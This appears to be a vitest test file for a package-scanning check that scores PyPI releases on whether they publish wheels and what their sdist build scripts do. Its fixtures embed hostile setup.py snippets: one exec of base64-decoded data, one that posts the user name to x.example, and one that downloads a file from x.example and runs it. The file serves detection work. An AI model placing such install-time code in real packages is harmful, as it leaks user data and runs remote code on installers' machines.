import check, { SDIST_ONLY_SCORE } from '../../src/checks/wheels-published.js';
import { INSTALL_CODE_CAP } from '../../src/checks/lib/install-code.js';
import type { PypiFile } from '../../src/evidence/schema.js';
import { pypiEvidence } from '../support/pypi-evidence.js';
import { checkTable, outcomeOf } from './check-table.js';
import { describe, expect, it } from 'vitest';

const file = (filename: string, packagetype: string, yanked = false): PypiFile => ({
  filename,
  packagetype,
  size: 20_000,
  uploadTime: '2026-05-02T00:00:00.000Z',
  yanked,
  hasProvenance: null,
});
const sdist = file('example-2.1.0.tar.gz', 'sdist');
const pureWheel = file('example-2.1.0-py3-none-any.whl', 'bdist_wheel');
const linuxWheel = file('example-2.1.0-cp312-cp312-manylinux_2_17_x86_64.whl', 'bdist_wheel');
const withFiles = (files: PypiFile[], sdistOnly = false) => pypiEvidence({ pypi: { files, sdistOnly } });

checkTable(check, [
  {
    name: 'pure-Python wheel and sdist',
    evidence: pypiEvidence(),
    score: 100,
    messageId: 'wheels',
    data: { wheels: 1, sdists: 1, pureWheel: true, sdistOnly: false },
  },
  {
    name: 'platform wheels only',
    evidence: withFiles([linuxWheel]),
    score: 100,
    messageId: 'wheels',
    data: { wheels: 1, sdists: 0, pureWheel: false },
  },
  {
    name: 'sdist only: the build backend runs at install',
    evidence: withFiles([sdist], true),
    score: SDIST_ONLY_SCORE,
    messageId: 'sdist-only',
    data: { wheels: 0, sdists: 1, sdistOnly: true },
    message: ['runs the package\'s build code'],
  },
  {
    name: 'the only wheel is yanked: pip builds from the sdist',
    evidence: withFiles([sdist, file('example-2.1.0-py3-none-any.whl', 'bdist_wheel', true)]),
    score: SDIST_ONLY_SCORE,
    messageId: 'sdist-only',
    data: { wheels: 0, sdists: 1 },
  },
  {
    name: 'a yanked release: its files are what pinning installs',
    evidence: pypiEvidence({ pypi: { yanked: true, files: [file('example-2.1.0-py3-none-any.whl', 'bdist_wheel', true)] } }),
    score: 100,
    messageId: 'wheels',
    data: { wheels: 1 },
  },
  {
    name: 'no wheel and no sdist (an old egg only)',
    evidence: withFiles([file('example-2.1.0-py2.7.egg', 'bdist_egg')]),
    score: null,
    messageId: 'no-distributions',
    data: { wheels: 0, sdists: 0 },
  },
  { name: 'no files at all', evidence: withFiles([]), score: null, messageId: 'no-distributions' },
  {
    name: 'sdist only, its setup.py overrides install',
    evidence: pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable: null, files: [{ path: 'setup.py', text: "setup(name='x', cmdclass={'install': PostInstall})\n", truncated: false }] } } }),
    score: SDIST_ONLY_SCORE,
    messageId: 'sdist-commands',
    data: { commands: ['install'] },
  },
  {
    name: 'sdist only, its setup.py executes decoded data',
    evidence: pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable: null, files: [{ path: 'setup.py', text: "import base64\nexec(base64.b64decode('eA=='))\n", truncated: false }] } } }),
    score: 10,
    messageId: 'sdist-suspicious',
    data: { flags: ['exec-decoded'] },
  },
  {
    name: 'sdist only, its setup.py posts the user and host names (data followed through a variable)',
    evidence: pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable: null, files: [{ path: 'setup.py', text: "import getpass, requests\nwho = {'u': getpass.getuser()}\nrequests.post('https://x.example/c', json=who)\nsetup(name='x')\n", truncated: false }] } } }),
    score: 0,
    messageId: 'sdist-hostile',
    data: { flags: ['exfiltration'], flowFlags: ['exfiltration'], patternFlags: [] },
    caps: [{ id: 'install-code', limit: INSTALL_CODE_CAP.limit, reason: expect.any(String) }],
  },
]);

describe('wheels-published: an sdist-only release\'s build files', () => {
  const build = (files: { path: string; text: string }[], unavailable: string | null = null) =>
    pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable, files: files.map((f) => ({ ...f, truncated: false })) } } });
  const PLAIN = "from setuptools import setup\nsetup(name='example', url='https://example.org')\n";
  const PYPROJECT = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';

  it.each<[string, ReturnType<typeof build>, number, string, Record<string, unknown>]>([
    ['a plain setuptools build: sdist-only as before', build([{ path: 'setup.py', text: PLAIN }]), SDIST_ONLY_SCORE, 'sdist-only', { buildFiles: ['setup.py'], commands: [], buildBackend: null }],
    ['hatchling named by pyproject.toml', build([{ path: 'pyproject.toml', text: PYPROJECT }]), SDIST_ONLY_SCORE, 'sdist-only', { buildBackend: 'hatchling.build' }],
    ['an in-tree backend', build([{ path: 'pyproject.toml', text: `${PYPROJECT}backend-path = ["_build"]\n` }]), SDIST_ONLY_SCORE, 'sdist-only', { buildBackend: 'hatchling.build (in-tree)' }],
    ['a custom install command', build([{ path: 'setup.py', text: "setup(name='x', cmdclass={'install': PostInstall})\n" }]), SDIST_ONLY_SCORE, 'sdist-commands', { commands: ['install'] }],
    [
      'a setup.py that downloads and runs',
      build([{ path: 'setup.py', text: "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.example/a', 'a')\nsubprocess.call(['./a'])\nsetup(name='x')\n" }]),
      10,
      'sdist-suspicious',
      { flags: ['download-and-run'] },
    ],
    ['the sdist could not be read: sdist-only stands, the build unknown', build([], 'the sdist could not be read: HTTP 500'), SDIST_ONLY_SCORE, 'sdist-only', { buildFiles: null, buildUnread: 'the sdist could not be read: HTTP 500' }],
    ['evidence saved before nerq read sdists', withFiles([sdist], true), SDIST_ONLY_SCORE, 'sdist-only', { buildFiles: null, buildUnread: null }],
  ])('%s', (_name, evidence, score, messageId, data) => {
    const outcome = outcomeOf(check, evidence);
    expect(outcome).toMatchObject({ score, messageId, data });
    if (messageId === 'sdist-suspicious') expect(outcome.holdVerdict).toMatch(/download-and-run/);
    else expect(outcome.holdVerdict).toBeUndefined();
  });
});
